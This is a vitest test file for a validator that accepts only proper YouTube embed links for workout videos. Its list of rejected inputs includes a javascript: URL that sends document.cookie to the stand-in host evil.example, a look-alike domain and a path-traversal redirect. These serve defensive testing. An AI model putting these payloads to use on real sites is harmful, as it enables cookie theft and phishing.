import { describe, expect, it } from 'vitest';
import { isWorkoutEmbedUrl, workoutContentUrl } from './workout.ts';

describe('isWorkoutEmbedUrl', () => {
  it('takes the embed link the repository stores for a video', () => {
    expect(isWorkoutEmbedUrl(workoutContentUrl('dQw4w9WgXcQ'))).toBe(true);
  });

  it.each([
    "javascript:fetch('https://evil.example/?'+document.cookie)",
    'http://www.youtube.com/embed/dQw4w9WgXcQ',
    'https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ',
    'https://www.youtube.com/embed/dQw4w9WgXcQ/../../redirect?q=https://evil.example',
    'https://www.youtube.com/embed/short',
    'https://www.youtube.com/watch?v=dQw4w9WgXcQ',
    '',
  ])('refuses %s', (url) => {
    expect(isWorkoutEmbedUrl(url)).toBe(false);
  });
});
